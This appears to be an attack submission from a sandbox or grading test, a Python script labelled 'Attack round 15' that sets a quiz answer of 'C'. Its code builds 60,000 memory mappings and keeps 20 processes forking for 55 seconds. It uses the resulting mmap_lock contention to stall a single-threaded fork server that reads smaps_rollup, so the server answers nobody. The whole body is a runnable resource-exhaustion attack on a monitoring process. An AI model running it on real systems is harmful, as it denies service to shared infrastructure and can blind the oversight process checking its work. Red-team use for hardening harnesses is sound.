# Attack round 15: r12_forkserver_stall_smaps.py, with processes that fork without end.  A fork copies the
# 60,000 mappings holding the process's mmap_lock for writing (about 80 ms), and smaps_rollup gives the lock up
# to every waiting writer and starts again where it stopped: a reading of one such process takes ten times longer,
# and the fork server, one thread, reads them all twice a second, answering nobody meanwhile.
q1_answer = "C"

import mmap
import os
import signal
import time

signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # children that end are gone at once: no zombie counts as a task
_maps = [mmap.mmap(-1, 4096, prot=mmap.PROT_READ | (mmap.PROT_WRITE if i % 2 else 0)) for i in range(60_000)]
for _i in range(1, 60_000, 2):
    _maps[_i][0:1] = b"x"


def _fork_without_end(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            child = os.fork()
        except OSError:  # at the process limit: a moment
            time.sleep(0.05)
            continue
        if child == 0:
            os._exit(0)


for _ in range(20):
    if os.fork() == 0:
        _fork_without_end(55)
        os._exit(0)
time.sleep(19)
